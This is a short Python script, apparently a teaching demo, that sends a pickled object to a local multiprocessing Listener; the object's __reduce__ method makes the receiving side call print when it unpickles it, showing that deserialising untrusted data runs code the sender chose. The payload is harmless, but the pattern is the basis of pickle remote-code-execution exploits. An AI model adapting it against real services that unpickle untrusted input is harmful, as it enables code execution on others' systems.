import sys
from multiprocessing import AuthenticationError
from multiprocessing.connection import Client
from pathlib import Path

ADDRESS = ("127.0.0.1", 9311)


class Payload:
    def __reduce__(self):
        # 还原它就是调用这个函数 | to restore it is to call this function
        return print, ("I chose this line, and you ran it",)


def main():
    key = Path(sys.argv[1]).read_bytes() if sys.argv[1:] else None
    try:
        with Client(ADDRESS, authkey=key) as conn:
            conn.send(Payload())
            print("sent")
    except (AuthenticationError, OSError) as error:
        print(f"{type(error).__name__}: {error}")


if __name__ == "__main__":
    main()
